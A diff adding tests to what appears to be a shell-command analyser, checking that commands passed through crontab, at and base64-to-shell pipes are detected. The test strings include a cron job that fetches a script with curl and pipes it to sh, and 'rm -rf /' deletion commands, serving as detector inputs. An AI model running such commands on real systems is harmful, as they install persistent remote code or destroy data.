@@ -62,6 +62,14 @@ t.test('wrappers and scripts given to shells, eval and interpreters', async (t) 
   t.notOk(find(`python3 -c "print('rm -rf /')"`, 'rm'), 'a string that is only printed runs nothing');
 });
 
+t.test('scripts handed to a scheduler are read (the schedule fields dropped)', async (t) => {
+  const line = parseCommandLine('(crontab -l; echo "*/10 * * * * curl -s http://x/b | sh") | crontab -');
+  t.same(line.pipes.filter((p) => p.source === 'curl').map((p) => p.sink), ['sh']);
+  t.same(line.commands.find((c) => c.exe === 'curl')?.via, ['crontab']);
+  t.same(find('echo "rm -rf /" | at now + 1 minute', 'rm')?.via, ['at']);
+  t.notOk(find('crontab -l | grep curl', 'curl'), 'reading the crontab runs nothing');
+});
+
 t.test('base64 payloads decoded and piped to a shell are read', async (t) => {
   const payload = Buffer.from('rm -rf --no-preserve-root /').toString('base64');
   t.same(find(`echo ${payload} | base64 -d | sh`, 'rm')?.via, ['base64']);
